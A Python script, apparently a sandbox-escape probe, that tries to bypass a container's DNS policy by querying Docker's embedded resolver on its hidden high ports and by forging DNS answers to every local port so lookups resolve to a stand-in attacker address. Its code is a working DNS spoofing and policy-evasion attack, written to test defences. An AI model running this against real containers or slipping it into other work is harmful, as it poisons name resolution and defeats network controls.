"""Tries to get round the resolver by way of Docker's, at 127.0.0.11, and prints what came of it
as a JSON object. Arguments: names of one label that the policy allows."""
import json
import socket
import struct
import sys
import threading
import time

ENGINE = "127.0.0.11"
EVIL = "203.0.113.66"


def question(name, number=7):
    labels = b"".join(bytes([len(l)]) + l.encode() for l in name.split("."))
    return struct.pack(">6H", number, 0x0100, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">2H", 1, 1)


def forged(query):
    head = query[:2] + struct.pack(">5H", 0x8180, 1, 1, 0, 0)
    end = query.index(b"\0", 12) + 5
    return head + query[12:end] + b"\xc0\x0c" + struct.pack(">2HIH", 1, 1, 600, 4) + socket.inet_aton(EVIL)


def high_ports(kind):
    """The ports of 127.0.0.11 that somebody is bound to."""
    with open("/proc/net/" + kind) as table:
        places = [line.split()[1].split(":") for line in list(table)[1:]]
    return [int(port, 16) for address, port in places if address == "0B00007F" and port != "0035"]


def answers_on_high_ports():
    """B16: its DNS asked where it really listens, past the rules that bring port 53 there."""
    answered = []
    for kind, type in (("udp", socket.SOCK_DGRAM), ("tcp", socket.SOCK_STREAM)):
        for port in high_ports(kind):
            s = socket.socket(socket.AF_INET, type)
            s.settimeout(1)
            query = question("evil.test")
            try:
                s.connect((ENGINE, port))
                s.sendall(query if kind == "udp" else struct.pack(">H", len(query)) + query)
                if s.recv(512):
                    answered.append("%s %d" % (kind, port))
            except OSError:
                pass
    return answered


def forge(names):
    """B43: forged answers, from the address of the engine's DNS. A packet from there to each port
    that a question may be asked from makes the kernel take that question for its answer, which
    Docker's rules then leave where it is: with us."""
    caught, stop = [], threading.Event()
    trap = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    trap.settimeout(0.1)
    try:
        trap.bind((ENGINE, 53))
    except OSError as e:
        return {"bound": str(e), "forged": [], "caught": 0, "sent": 0}

    def serve():
        while not stop.is_set():
            try:
                query, client = trap.recvfrom(512)
                caught.append(client)
                trap.sendto(forged(query), client)
            except OSError:
                pass

    server = threading.Thread(target=serve)
    server.start()
    sent = 0
    low, high = map(int, open("/proc/sys/net/ipv4/ip_local_port_range").read().split())
    for port in range(low, high + 1):
        try:
            trap.sendto(forged(question(names[0])), ("127.0.0.1", port))
            sent += 1
        except OSError:
            pass
    wrong, right = [], []
    for name in names:
        try:
            address = socket.gethostbyname(name)
            (wrong if address == EVIL else right).append(name)
        except OSError:
            pass
    stop.set()
    server.join()
    return {"sent": sent, "caught": len(caught), "forged": wrong, "right": right}


report = {"listening": high_ports("udp") + high_ports("tcp"), "high": answers_on_high_ports()}
report.update(forge(sys.argv[1:]))
print(json.dumps(report))
